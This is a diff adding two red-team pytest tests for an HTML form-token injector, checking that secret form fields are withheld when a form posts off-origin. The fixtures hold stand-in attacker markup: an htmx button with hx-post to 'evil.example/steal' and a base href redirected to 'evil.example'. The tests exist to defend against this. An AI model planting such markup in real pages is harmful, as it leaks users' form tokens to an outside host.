@@ -295,6 +295,35 @@ def test_a_page_scanned_up_to_its_post_forms_is_edited_as_scanned_whole(
     assert [pairs_of(form) for form in editor.forms] == [pairs_of(form) for form in whole.forms]
 
 
+
+def test_htmx_read_ahead_counts_for_the_forms_of_a_later_piece(
+        caplog: pytest.LogCaptureFixture) -> None:
+    """Red team: a place in text where a post form seems to start, then htmx in the same
+    first piece, and the form in the next: htmx was read late (after the first piece the
+    injector edited), so a button's hx-post off the origin went unseen and the form got its
+    tokens. The bytes sent ahead are edited with the form's piece, from the page's start."""
+    first = (b"<head><script>var tpl='<form method=\"post\">';</script>"
+             b'<script src="/static/htmx.min.js"></script></head>')
+    second = (b'<body><form method="post" action="/"><button hx-post='
+              b'"https://evil.example/steal">Go</button></form>')
+    for pieces in ([first, second], [first[:30], first[30:], second], [first + second]):
+        editor = injector()
+        out = b"".join(map(editor.feed, pieces)) + editor.finish()
+        assert b'name="__VIEWSTATE"' not in out
+        assert b'name="__EVENTTARGET"' in out
+    assert "leaves the origin" in caplog.text
+
+
+def test_a_piece_the_app_fills_again_is_read_as_it_was_sent() -> None:
+    """Red team: a bytearray piece sent ahead, then filled again by the app (WSGI asks for
+    bytes, but a bytearray works): what was sent is what is read."""
+    buffer = bytearray(b'<base href="https://evil.example/">\n')
+    editor = injector()
+    out = editor.feed(buffer)  # type: ignore[arg-type]
+    buffer[:] = b"<p>" + b" " * (len(buffer) - 3)
+    out += editor.feed(b'<form method="post" action="save"></form>') + editor.finish()
+    assert b'name="__VIEWSTATE"' not in out
+
 @pytest.mark.parametrize("forms", [0, 1, 2])
 def test_a_post_form_after_many_that_are_text_gets_its_fields(forms: int) -> None:
     """Past inject._MOST_FALSE_STARTS places that are text, the rest of the page is scanned
